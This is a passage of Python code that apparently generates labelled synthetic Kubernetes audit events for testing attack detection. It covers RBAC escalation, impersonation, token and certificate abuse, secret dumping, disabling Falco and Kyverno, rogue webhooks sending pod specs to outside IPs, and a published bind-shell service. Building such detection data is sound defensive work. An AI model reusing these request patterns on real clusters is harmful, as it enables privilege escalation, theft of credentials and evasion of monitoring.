        self.rbac_write("pod-exec-role", "a patch adds pods/exec to a viewer Role", w.admin(), "patch", "Role", r,
                        name="viewer", ns="payments")

        # escalate / bind / impersonate
        r = role_object("ClusterRole", "rbac-manager", [rule(["rbac.authorization.k8s.io"], ["clusterroles", "roles"],
                                                             ["escalate", "bind", "get", "list"])])
        self.rbac_write("escalate-bind-impersonate-role", "a ClusterRole with escalate and bind", contractor, "create",
                        "ClusterRole", r)
        r = role_object("ClusterRole", "sudoer", [rule([""], ["users", "groups", "serviceaccounts"], ["impersonate"])])
        self.rbac_write("escalate-bind-impersonate-role", "a ClusterRole allowing impersonation", dev, "create", "ClusterRole", r)
        ns = w.ns()
        r = role_object("Role", "sa-impersonator", [rule([""], ["serviceaccounts"], ["impersonate"])], namespace=ns)
        self.rbac_write("escalate-bind-impersonate-role", "a Role to impersonate service accounts", w.compromised_sa(),
                        "create", "Role", r, ns=ns, ua="python-requests/2.32.3")
        r = role_object("ClusterRole", "binder", [rule(["rbac.authorization.k8s.io"], ["clusterroles"], ["bind"],
                                                       names=["cluster-admin"])])
        self.rbac_write("escalate-bind-impersonate-role", "a ClusterRole that may bind cluster-admin", w.admin(), "create",
                        "ClusterRole", r)
        r = role_object("ClusterRole", "escalator", [rule(["rbac.authorization.k8s.io"], ["*"], ["escalate"])])
        self.rbac_write("escalate-bind-impersonate-role", "refused", mks.oidc("qa-bot@acme-shop.fr"), "create", "ClusterRole",
                        r, code=403)

        # system: roles and bindings
        r = role_object("ClusterRole", "system:node", [rule([""], ["secrets"], ["get", "list", "watch"]),
                                                       rule([""], ["nodes"], ["get", "list", "watch", "patch"])])
        self.rbac_write("system-rbac-change", "a patch widens system:node to every secret", contractor, "patch",
                        "ClusterRole", r, name="system:node")
        b = binding_object("ClusterRoleBinding", "system:basic-user", "ClusterRole", "system:basic-user",
                           [subj_group("system:authenticated"), subj_user("qa-bot@acme-shop.fr")])
        self.rbac_write("system-rbac-change", "an update of a system: binding", dev, "update", "ClusterRoleBinding", b,
                        name="system:basic-user")
        self.rbac_write("system-rbac-change", "a system: ClusterRole deleted", w.admin(), "delete", "ClusterRole",
                        name="system:public-info-viewer",
                        resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success",
                              "details": {"name": "system:public-info-viewer", "group": "rbac.authorization.k8s.io",
                                          "kind": "clusterroles", "uid": c.uid()}})
        r = role_object("ClusterRole", "system:controller:token-helper", [rule([""], ["secrets", "serviceaccounts/token"],
                                                                              ["get", "list", "create"])])
        self.rbac_write("system-rbac-change", "a ClusterRole disguised with a system:controller: name", contractor, "create",
                        "ClusterRole", r)
        b = binding_object("ClusterRoleBinding", "system:kube-proxy-ext", "ClusterRole", "system:node-proxier",
                           [subj_sa("web", "frontend")])
        self.rbac_write("system-rbac-change", "a binding disguised with a system: name", dev, "create", "ClusterRoleBinding", b)
        patch = [{"op": "add", "path": "/subjects/-", "value": subj_group("system:unauthenticated")}]
        resp = created(c, binding_object("ClusterRoleBinding", "system:discovery", "ClusterRole", "system:discovery",
                                         [subj_group("system:authenticated"), subj_group("system:unauthenticated")]))
        self.rbac_write("system-rbac-change", "a JSON patch opens system:discovery to anonymous users", w.admin(), "patch",
                        "ClusterRoleBinding", patch, name="system:discovery", resp=resp)

        # aggregated ClusterRoles
        agg = "rbac.authorization.k8s.io/aggregate-to-"
        r = role_object("ClusterRole", "metrics-view-extension", [rule([""], ["secrets"], ["get", "list", "watch"])],
                        labels={agg + "view": "true"})
        self.rbac_write("aggregated-clusterrole", "an aggregated ClusterRole gives view every secret", dev, "create",
                        "ClusterRole", r)
        r = role_object("ClusterRole", "node-tools", [rule([""], ["nodes/proxy"], ["get", "create"])],
                        labels={agg + "edit": "true"})
        self.rbac_write("aggregated-clusterrole", "an aggregated ClusterRole gives edit the kubelet API", contractor, "create",
                        "ClusterRole", r)
        r = role_object("ClusterRole", "view",
                        [rule([""], ["configmaps", "endpoints", "persistentvolumeclaims", "pods", "services"],
                              ["get", "list", "watch"]),
                         rule(["apps"], ["deployments", "daemonsets", "replicasets", "statefulsets"], ["get", "list", "watch"]),
                         rule([""], ["secrets"], ["get", "list", "watch"])],
                        labels={"kubernetes.io/bootstrapping": "rbac-defaults", agg + "edit": "true"},
                        aggregation={"clusterRoleSelectors": [{"matchLabels": {agg + "view": "true"}}]})
        who = mks.sa(c, "kube-system", "clusterrole-aggregation-controller")
        ev = mks.request(c, who, "update", "clusterroles", ["141.95.162.40"], mks.ua_controller("clusterrole-aggregation-controller"),
                         name="view", group="rbac.authorization.k8s.io", req=r, resp=created(c, r))
        self.add("aggregated-clusterrole", "the aggregation controller writes secrets into the built-in view role", ev)
        r = role_object("ClusterRole", "admin-extras", [rule(["*"], ["*"], ["*"])], labels={agg + "admin": "true"})
        self.rbac_write("aggregated-clusterrole", "an aggregated ClusterRole gives admin everything", w.admin(), "create",
                        "ClusterRole", r)

    # ---------------------------------------------------------------- credentials

    def credentials(self):
        w, c = self.w, self.ctx
        contractor = mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"])
        dev = mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"])

        # impersonation
        for who, imp, verb, res, ns, note, code in [
            (w.admin(), mks.user("system:admin", ["system:masters"]), "list", "secrets", None,
             "impersonates system:masters to list every secret", 200),
            (contractor, mks.user("system:serviceaccount:kube-system:clusterrole-aggregation-controller",
                                  ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]),
             "get", "pods", "kube-system", "impersonates a controller", 200),
            (w.compromised_sa(), mks.user(f"system:node:{w.node()}", ["system:nodes"]), "get", "secrets", w.ns(),
             "a service account impersonates a node", 200),
            (dev, mks.user("alice.martin@acme-shop.fr", ["acme:developers", "acme:admins"]), "delete", "deployments", "payments",
             "impersonates a colleague to delete a deployment", 200),
        ]:
            group = "apps" if res == "deployments" else ""
            ev = mks.request(c, who, verb, res, [w.attacker_ip() if "serviceaccount" not in who["username"] else w.pod_ip()],
                             w.kubectl(), namespace=ns, name=None if verb == "list" else c.pick(["app-config", "x", "ledger"]),
                             group=group, impersonated=imp, code=code, query="limit=500" if verb == "list" else "",
                             reason=mks.ADMIN_REASON)
            self.add("impersonation", note, ev)
        ev = mks.request(c, dev, "get", "secrets", [w.attacker_ip()], w.kubectl(), namespace="kube-system", name="cloud-config",
                         code=403, decision=None,
                         message='users "system:admin" is forbidden: User "m.leroy@acme-shop.fr" cannot impersonate resource "users" in API group "" at the cluster scope')
        self.add("impersonation", "refused impersonation of system:admin", ev)

        # TokenRequest
        for who, ns, sa_name, note, code, ip, ua in [
            (w.admin(), "kube-system", "clusterrole-aggregation-controller", "kubectl create token for a kube-system controller",
             201, w.attacker_ip(), w.kubectl()),
            (dev, "payments", "payments-api", "a one-year token for an app service account", 201, w.attacker_ip(), w.kubectl()),
            (w.compromised_sa(), "ci", "deployer", "a service account mints a token for another", 201, w.pod_ip(), "curl/8.5.0"),
            (mks.oidc("qa-bot@acme-shop.fr"), "kube-system", "csi-cinder-controller-sa", "refused", 403, w.attacker_ip(), w.kubectl()),
            (mks.node_user(w.node()), "kube-system", "canal", "node credentials mint a token with kubectl", 201, w.attacker_ip(),
             w.kubectl()),
        ]:
            req = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
                   "spec": {"audiences": None, "expirationSeconds": c.pick([3600, 31536000, 86400]), "boundObjectRef": None},
                   "status": {"token": "", "expirationTimestamp": None}}
            resp = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1",
                    "metadata": {"name": sa_name, "namespace": ns, "creationTimestamp": "2025-03-12T00:00:00Z"},
                    "spec": {"audiences": ["https://kubernetes.default.svc.cluster.local"], "expirationSeconds": 3600,
                             "boundObjectRef": None},
                    "status": {"token": "", "expirationTimestamp": "2025-03-13T00:00:00Z"}}
            ev = mks.request(c, who, "create", "serviceaccounts", [ip], ua, namespace=ns, name=sa_name, subresource="token",
                             req=req, resp=resp, code=code)
            self.add("token-request", note, ev)

        # CSRs
        for who, note, code, ip in [
            (dev, "a CSR for a client certificate", 201, w.attacker_ip()),
            (w.compromised_sa(), "a service account submits a CSR", 201, w.pod_ip()),
            (w.admin(), "a CSR from the stolen admin kubeconfig", 201, w.attacker_ip()),
            (mks.oidc("qa-bot@acme-shop.fr"), "refused", 403, w.attacker_ip()),
        ]:
            name = c.pick(["contractor-access", "admin-cert", f"csr-{c.suffix()}", "backup-operator"])
            req = {"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
                   "metadata": {"name": name, "creationTimestamp": None},
                   "spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K",
                            "signerName": "kubernetes.io/kube-apiserver-client", "expirationSeconds": 31536000,
                            "usages": ["client auth"]},
                   "status": {}}
            ev = mks.request(c, who, "create", "certificatesigningrequests", [ip], w.kubectl(),
                             group="certificates.k8s.io", req=req, resp=created(c, req) if code < 400 else None, code=code)
            self.add("csr-create", note, ev)
        for who, note, code, ip in [
            (contractor, "kubectl certificate approve", 200, w.attacker_ip()),
            (w.admin(), "the stolen admin kubeconfig approves its own CSR", 200, w.attacker_ip()),
            (w.compromised_sa(), "a service account approves a CSR", 200, w.pod_ip()),
            (mks.oidc("qa-bot@acme-shop.fr"), "refused", 403, w.attacker_ip()),
        ]:
            name = c.pick(["contractor-access", "admin-cert", "backup-operator"])
            req = {"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
                   "metadata": {"name": name, "resourceVersion": str(c.rng.randint(10 ** 6, 9 * 10 ** 6))},
                   "spec": {"request": "LS0tLS1CRUdJTi...", "signerName": "kubernetes.io/kube-apiserver-client",
                            "usages": ["client auth"], "username": "ext-contractor@acme-shop.fr"},
                   "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove",
                                              "message": "This CSR was approved by kubectl certificate approve.",
                                              "lastUpdateTime": "2025-03-12T00:00:00Z"}]}}
            ev = mks.request(c, who, "update", "certificatesigningrequests", [ip], w.kubectl(), name=name,
                             subresource="approval", group="certificates.k8s.io", req=req,
                             resp=req if code < 400 else None, code=code)
            self.add("csr-approve", note, ev)

        # kube-system secrets
        for who, verb, name, note, code, ua in [
            (dev, "get", "cinder-csi-cloud-config", "reads the OpenStack credentials of the Cinder CSI driver", 200, w.kubectl()),
            (w.compromised_sa(), "list", None, "lists kube-system secrets", 200, "curl/8.5.0"),
            (w.compromised_sa(), "watch", None, "watches kube-system secrets", 200, "python-requests/2.32.3"),
            (mks.oidc("qa-bot@acme-shop.fr"), "get", "bootstrap-token-5emitj", "refused", 403, w.kubectl()),
            (w.admin(), "get", c.pick(["csi-cinder-cloud-config", "yacht-credentials"]),
             "the stolen admin kubeconfig reads a kube-system secret", 200, w.kubectl()),
        ]:
            query = "limit=500" if verb == "list" else ("allowWatchBookmarks=true&watch=true" if verb == "watch" else "")
            ip = w.pod_ip() if "serviceaccount" in who["username"] else w.attacker_ip()
            ev = mks.request(c, who, verb, "secrets", [ip], ua, namespace="kube-system", name=name, query=query, code=code,
                             stage="ResponseStarted" if verb == "watch" else "ResponseComplete")
            self.add("kube-system-secret-read", note, ev)

        # cluster-wide secret listing
        for who, verb, note, code, ua in [
            (contractor, "list", "kubectl get secrets -A", 200, w.kubectl()),
            (w.compromised_sa(), "list", "a service account lists every secret", 200, "curl/8.5.0"),
            (w.compromised_sa(), "watch", "a service account watches every secret", 200, "Go-http-client/2.0"),
            (mks.oidc("qa-bot@acme-shop.fr"), "list", "refused", 403, w.kubectl()),
            (w.admin(), "list", "the stolen admin kubeconfig dumps every secret", 200, w.kubectl()),
        ]:
            query = "limit=500" if verb == "list" else "allowWatchBookmarks=true&resourceVersion=0&watch=true"
            ip = w.pod_ip() if "serviceaccount" in who["username"] else w.attacker_ip()
            ev = mks.event(c, who, verb, "/api/v1/secrets?" + query, [ip], ua, resource="secrets", code=code,
                           stage="ResponseStarted" if verb == "watch" else "ResponseComplete")
            self.add("cluster-wide-secret-list", note, ev)

        # service-account and node credentials from outside the cluster
        for verb, res, ns, ua, note in [
            ("list", "pods", None, w.kubectl(), "a stolen app token with kubectl from the Internet"),
            ("list", "namespaces", None, "curl/8.9.1", "a stolen token with curl from the Internet"),
            ("list", "nodes", None, w.kubectl(), "a stolen kube-system token from the Internet"),
            ("get", "configmaps", "shop", "python-requests/2.32.3", "a stolen token with python from the Internet"),
        ]:
            if res == "nodes":
                who = mks.sa(c, "kube-system", "canal")
            else:
                ns2, app = w.app()
                who = mks.sa(c, ns or ns2, app)
                ns = ns or ns2
            name = None if verb == "list" else ("app-config" if res == "configmaps" else None)
            uri_ns = ns if res in ("pods", "configmaps") else None
            ev = mks.request(c, who, verb, res, [w.attacker_ip()], ua, namespace=uri_ns, name=name,
                             query="limit=500" if verb == "list" else "")
            self.add("sa-credential-outside", note, ev)
        for verb, res, ua, note, code in [
            ("list", "pods", w.kubectl(), "a node's credentials with kubectl from the Internet", 200),
            ("get", "secrets", "curl/8.5.0", "a node's credentials with curl", 403),
            ("get", "nodes", mks.UA_KUBELET, "a node's credentials with the kubelet's user agent, from the Internet", 200),
            ("list", "secrets", "python-requests/2.32.3", "a node's credentials list secrets", 403),
        ]:
            node = w.node()
            ns = w.ns() if res != "nodes" else None
            name = node if res == "nodes" else ("db-credentials" if verb == "get" else None)
            ev = mks.request(c, mks.node_user(node), verb, res, [w.attacker_ip()], ua, namespace=ns if res != "pods" else None,
                             name=name, code=code, query="limit=500" if verb == "list" else "")
            self.add("node-credential-outside", note, ev)

        # service-account reconnaissance
        for kind, ua, note in [
            ("selfsubjectrulesreviews", w.kubectl(), "kubectl auth can-i --list with a pod's token"),
            ("selfsubjectaccessreviews", "curl/8.5.0", "can I create pods? asked with curl"),
            ("selfsubjectrulesreviews", "Go-http-client/1.1", "rules review from a compromised pod"),
            ("selfsubjectaccessreviews", w.kubectl(), "kubectl auth can-i get secrets -n kube-system"),
        ]:
            who = w.compromised_sa()
            ns = who["username"].split(":")[2]
            if kind == "selfsubjectrulesreviews":
                req = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1",
                       "metadata": {"creationTimestamp": None}, "spec": {"namespace": ns}, "status": {"resourceRules": None,
                                                                                                      "nonResourceRules": None,
                                                                                                      "incomplete": False}}
            else:
                req = {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
                       "metadata": {"creationTimestamp": None},
                       "spec": {"resourceAttributes": {"namespace": "kube-system", "verb": "get", "resource": "secrets"}},
                       "status": {"allowed": False}}
            ev = mks.request(c, who, "create", kind, [w.pod_ip()], ua, group="authorization.k8s.io", req=req, resp=req)
            self.add("sa-recon", note, ev)

    # ---------------------------------------------------------------- defence evasion

    def evasion(self):
        w, c = self.w, self.ctx
        contractor = mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"])
        dev = mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"])
        ok_del = lambda name, kind: {"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success",
                                     "details": {"name": name, "kind": kind, "uid": c.uid()}}

        # deleting events
        ns = w.ns()
        ev = mks.request(c, contractor, "deletecollection", "events", [w.attacker_ip()], w.kubectl(), namespace=ns,
                         resp={"kind": "EventList", "apiVersion": "v1", "metadata": {"resourceVersion": "2270511"}, "items": []})
        self.add("event-deletion", "kubectl delete events --all", ev)
        who = w.compromised_sa()
        ns = who["username"].split(":")[2]
        name = f"{ns}-app.17f3a{c.hexs(11)}"
        ev = mks.request(c, who, "delete", "events", [w.pod_ip()], "python-requests/2.32.3", namespace=ns, name=name,
                         resp=ok_del(name, "events"))
        self.add("event-deletion", "a service account deletes an event", ev)
        ns = w.ns()
        ev = mks.request(c, w.admin(), "deletecollection", "events", [w.attacker_ip()], w.kubectl(), namespace=ns,
                         group="events.k8s.io", resp={"kind": "EventList", "apiVersion": "events.k8s.io/v1", "metadata": {}, "items": []})
        self.add("event-deletion", "events deleted through events.k8s.io", ev)
        ev = mks.request(c, mks.oidc("qa-bot@acme-shop.fr"), "deletecollection", "events", [w.attacker_ip()], w.kubectl(),
                         namespace="kube-system", code=403)
        self.add("event-deletion", "refused", ev)

        # disabling Falco
        ev = mks.request(c, contractor, "delete", "daemonsets", [w.attacker_ip()], w.kubectl(), namespace="falco", name="falco",
                         group="apps", resp=ok_del("falco", "daemonsets"))
        self.add("security-tool-tampering", "the Falco DaemonSet deleted", ev)
        ev = mks.request(c, w.admin(), "delete", "namespaces", [w.attacker_ip()], w.kubectl(), name="falco",
                         resp={"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": "falco"},
                               "status": {"phase": "Terminating"}})
        self.add("security-tool-tampering", "the falco namespace deleted", ev)
        patch = [{"op": "add", "path": "/spec/template/spec/nodeSelector", "value": {"non-existing": "true"}}]
        ds = created(c, workload(c, "DaemonSet", "falco", "falco",
                                 pod_spec([container("falco", "docker.io/falcosecurity/falco:0.39.2", privileged=True)],
                                          node_selector={"non-existing": "true"}), created=False))
        ev = mks.request(c, dev, "patch", "daemonsets", [w.attacker_ip()], w.kubectl(), namespace="falco", name="falco",
                         group="apps", req=patch, resp=ds)
        self.add("security-tool-tampering", "a JSON patch leaves Falco on no node", ev)
        ev = mks.request(c, w.compromised_sa(), "patch", "deployments", [w.pod_ip()], "python-requests/2.32.3",
                         namespace="falco", name="falco-falcosidekick", subresource="scale", group="apps",
                         req={"spec": {"replicas": 0}},
                         resp={"kind": "Scale", "apiVersion": "autoscaling/v1",
                               "metadata": {"name": "falco-falcosidekick", "namespace": "falco"},
                               "spec": {"replicas": 0}, "status": {"replicas": 2}})
        self.add("security-tool-tampering", "Falcosidekick scaled to zero", ev)
        ev = mks.request(c, contractor, "delete", "configmaps", [w.attacker_ip()], w.kubectl(), namespace="falco",
                         name="falco-rules")
        self.add("security-tool-tampering", "Falco's rules ConfigMap deleted", ev)
        ev = mks.request(c, w.admin(), "update", "configmaps", [w.attacker_ip()], w.kubectl(), namespace="falco",
                         name="falco")
        self.add("security-tool-tampering", "Falco's configuration replaced", ev)

        # admission webhooks
        mwc = {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
               "metadata": {"name": "pod-defaults.acme.io", "creationTimestamp": None},
               "webhooks": [{"name": "pod-defaults.acme.io",
                             "clientConfig": {"url": "https://45.133.1.88:8443/mutate"},
                             "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"],
                                        "resources": ["pods"], "scope": "*"}],
                             "failurePolicy": "Ignore", "sideEffects": "None",
                             "admissionReviewVersions": ["v1"]}]}
        ev = mks.request(c, contractor, "create", "mutatingwebhookconfigurations", [w.attacker_ip()], w.kubectl(),
                         group="admissionregistration.k8s.io", req=mwc, resp=created(c, mwc))
        self.add("admission-webhook", "a mutating webhook on every pod, served from outside", ev)
        vwc = {"kind": "ValidatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
               "metadata": {"name": "block-all", "creationTimestamp": None},
               "webhooks": [{"name": "block.acme.io",
                             "clientConfig": {"service": {"namespace": "default", "name": "blocker", "port": 443}},
                             "rules": [{"operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*"]}],
                             "failurePolicy": "Fail", "sideEffects": "None", "admissionReviewVersions": ["v1"]}]}
        ev = mks.request(c, w.admin(), "create", "validatingwebhookconfigurations", [w.attacker_ip()], w.kubectl(),
                         group="admissionregistration.k8s.io", req=vwc, resp=created(c, vwc))
        self.add("admission-webhook", "a validating webhook that blocks every request", ev)
        ev = mks.request(c, w.compromised_sa(), "delete", "validatingwebhookconfigurations", [w.pod_ip()], "curl/8.5.0",
                         name="kyverno-resource-validating-webhook-cfg", group="admissionregistration.k8s.io",
                         resp=ok_del("kyverno-resource-validating-webhook-cfg", "validatingwebhookconfigurations"))
        self.add("admission-webhook", "the policy engine's webhook deleted", ev)
        patch = [{"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://91.92.244.5/mutate"}]
        ev = mks.request(c, dev, "patch", "mutatingwebhookconfigurations", [w.attacker_ip()], w.kubectl(),
                         name="istio-sidecar-injector", group="admissionregistration.k8s.io", req=patch,
                         resp=created(c, mwc))
        self.add("admission-webhook", "an existing mutating webhook redirected", ev)
        ev = mks.request(c, mks.oidc("qa-bot@acme-shop.fr"), "create", "mutatingwebhookconfigurations", [w.attacker_ip()],
                         w.kubectl(), group="admissionregistration.k8s.io", req=mwc, code=403)
        self.add("admission-webhook", "refused", ev)

        # kube-system ConfigMaps
        for who, verb, name, note, code in [
            (contractor, "patch", "coredns", "CoreDNS's Corefile changed", 200),
            (w.compromised_sa(), "update", "kube-proxy", "kube-proxy's configuration replaced", 200),
            (w.admin(), "create", "cluster-dns-override", "a new ConfigMap in kube-system", 201),
            (dev, "delete", "extension-apiserver-authentication", "the API server's client CA ConfigMap deleted", 200),
            (mks.oidc("qa-bot@acme-shop.fr"), "patch", "coredns", "refused", 403),
        ]:
            ip = w.pod_ip() if "serviceaccount" in who["username"] else w.attacker_ip()
            ev = mks.request(c, who, verb, "configmaps", [ip], w.kubectl(), namespace="kube-system", name=name, code=code)
            self.add("kube-system-configmap-tampering", note, ev)

        # anonymous access RBAC allows
        anon_reason = 'RBAC: allowed by ClusterRoleBinding "debug-anon" of ClusterRole "view" to User "system:anonymous"'
        for verb, uri, res, ns, name, note in [
            ("list", "/api/v1/namespaces/kube-system/secrets", "secrets", "kube-system", None, "anonymous lists kube-system secrets"),
            ("list", "/api/v1/pods?limit=500", "pods", None, None, "anonymous lists every pod"),
            ("get", "/api/v1/namespaces/shop/configmaps/app-config", "configmaps", "shop", "app-config", "anonymous reads a ConfigMap"),
            ("get", "/apis/apps/v1/namespaces/payments/deployments/ledger", "deployments", "payments", "ledger",
             "anonymous reads a Deployment"),
        ]:
            ev = mks.event(c, mks.ANONYMOUS, verb, uri, [w.attacker_ip()], c.pick(["python-requests/2.32.3", "curl/8.9.1",
                                                                                   "Mozilla/5.0 zgrab/0.x"]),
                           resource=res, namespace=ns, name=name, group="apps" if res == "deployments" else "",
                           reason=anon_reason)
            self.add("anonymous-allowed", note, ev)

        # exposing a pod
        svc = lambda name, ns, type_, ports: {
            "kind": "Service", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns, "creationTimestamp": None,
                                                                "labels": {"run": name}},
            "spec": {"ports": ports, "selector": {"run": name}, "type": type_}, "status": {"loadBalancer": {}}}
        for who, name, type_, ports, note in [
            (contractor, "postgres-0", "NodePort", [{"protocol": "TCP", "port": 5432, "targetPort": 5432}],
             "kubectl expose pod postgres-0 --type=NodePort"),
            (w.admin(), "redis-debug", "LoadBalancer", [{"protocol": "TCP", "port": 6379, "targetPort": 6379}],
             "a LoadBalancer in front of redis"),
            (w.compromised_sa(), "shell", "NodePort", [{"protocol": "TCP", "port": 4444, "targetPort": 4444, "nodePort": 31337}],
             "a service account publishes a bind shell"),
        ]:
            ns = "data" if "postgres" in name or "redis" in name else who["username"].split(":")[2]
            obj = svc(name, ns, type_, ports)
            ip = w.pod_ip() if "serviceaccount" in who["username"] else w.attacker_ip()
            ev = mks.request(c, who, "create", "services", [ip], w.kubectl(), namespace=ns, req=obj, resp=created(c, obj))
            self.add("service-exposure", note, ev)
        obj = svc("ledger", "payments", "NodePort", [{"protocol": "TCP", "port": 8080, "targetPort": 8080}])
        ev = mks.request(c, dev, "patch", "services", [w.attacker_ip()], w.kubectl(), namespace="payments", name="ledger",
                         req={"spec": {"type": "NodePort"}}, resp=created(c, obj))
        self.add("service-exposure", "a patch turns an internal service into a NodePort", ev)
        ev = mks.request(c, contractor, "patch", "services", [w.attacker_ip()], w.kubectl(), namespace="search",
                         name="search-api", req=[{"op": "replace", "path": "/spec/type", "value": "LoadBalancer"}],
                         resp=created(c, svc("search-api", "search", "LoadBalancer", [{"port": 80, "protocol": "TCP"}])))
        self.add("service-exposure", "a JSON patch turns a service into a LoadBalancer", ev)

        # node pools
        np = lambda name, desired: {"apiVersion": "kube.cloud.ovh.com/v1alpha1", "kind": "NodePool",
                                    "metadata": {"name": name, "resourceVersion": str(c.rng.randint(10 ** 6, 9 * 10 ** 6))},
                                    "spec": {"antiAffinity": False, "autoscale": False,
                                             "autoscaling": {"scaleDownUnneededTimeSeconds": 600,
                                                             "scaleDownUnreadyTimeSeconds": 1200,
                                                             "scaleDownUtilizationThreshold": "0.5"},
                                             "desiredNodes": desired, "flavor": "b2-15", "maxNodes": 100,
                                             "minNodes": 0, "monthlyBilled": False}}
        pool = self.w.nodes[0].rsplit("-node-", 1)[0]
        for who, verb, name, req, note, code in [
            (contractor, "patch", pool, {"spec": {"desiredNodes": 60, "maxNodes": 100}}, "a node pool scaled to 60 nodes", 200),
            (w.admin(), "delete", "batch-c2-30", None, "a node pool deleted", 200),
            (w.compromised_sa(), "update", pool, np(pool, 40), "a service account rewrites a node pool", 200),
            (dev, "create", "gpu-pool", np("gpu-pool", 10) | {"spec": np("gpu-pool", 10)["spec"] | {"flavor": "t2-45"}},
             "a GPU node pool created", 201),
            (mks.oidc("qa-bot@acme-shop.fr"), "patch", pool, {"spec": {"desiredNodes": 30}}, "refused", 403),
            (dev, "patch", pool, [{"op": "replace", "path": "/spec/flavor", "value": "t2-180"}],
             "a JSON patch changes a node pool's flavour", 200),
        ]:
            ip = w.pod_ip() if "serviceaccount" in who["username"] else w.attacker_ip()
            resp = np(name, 60) if code < 400 and verb != "delete" else None
            ev = mks.request(c, who, verb, "nodepools", [ip], w.kubectl(), name=name, group="kube.cloud.ovh.com",
                             version="v1alpha1", req=req, resp=resp, code=code)
            self.add("nodepool-tampering", note, ev)

    def all(self):
        self.execution()
        self.workloads()
        self.rbac()
        self.credentials()
        self.evasion()
        return self.out


def w_images():
    from world import APP_IMAGES
    return APP_IMAGES
